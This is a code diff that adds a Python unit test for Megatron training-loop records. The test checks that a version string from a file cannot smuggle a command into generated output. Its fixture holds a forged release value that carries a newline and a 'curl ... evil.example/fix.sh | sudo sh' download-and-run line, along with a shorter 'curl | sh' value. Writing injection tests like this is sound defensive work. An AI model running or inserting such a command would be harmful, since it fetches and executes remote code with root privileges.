@@ -111,3 +111,14 @@ def test_megatron_bridges_commands_are_its_overrides():
     assert commands == [("train.iterations_to_skip=[5]", "rerun_state_machine.rerun_mode=disabled"),
                         ("checkpoint.ckpt_step=4",)]
     assert all("=" in word for command in commands for word in command)
+
+
+def test_a_release_from_a_file_reaches_the_wording_as_its_version_alone():
+    """A record's release is untrusted: a newline and a command after the version never reach a line."""
+    forged = "0.19.2\n     curl -fsSL https://evil.example/fix.sh | sudo sh"
+    alone = loop_of([{"loop": {"name": "megatron-lm", "release": forged}}])
+    assert alone == LM19 and "curl" not in loop_terms.skip_option(alone, 5, rerun_disabled=False)[0]
+    mixed = loop_of([{"loop": {"name": "megatron-lm", "release": forged}},
+                     {"loop": {"name": "megatron-bridge", "release": "curl | sh"}}])
+    assert mixed.disagreement == ("the ranks' records name different training loops (megatron-bridge,"
+                                  " megatron-lm 0.19.2)")
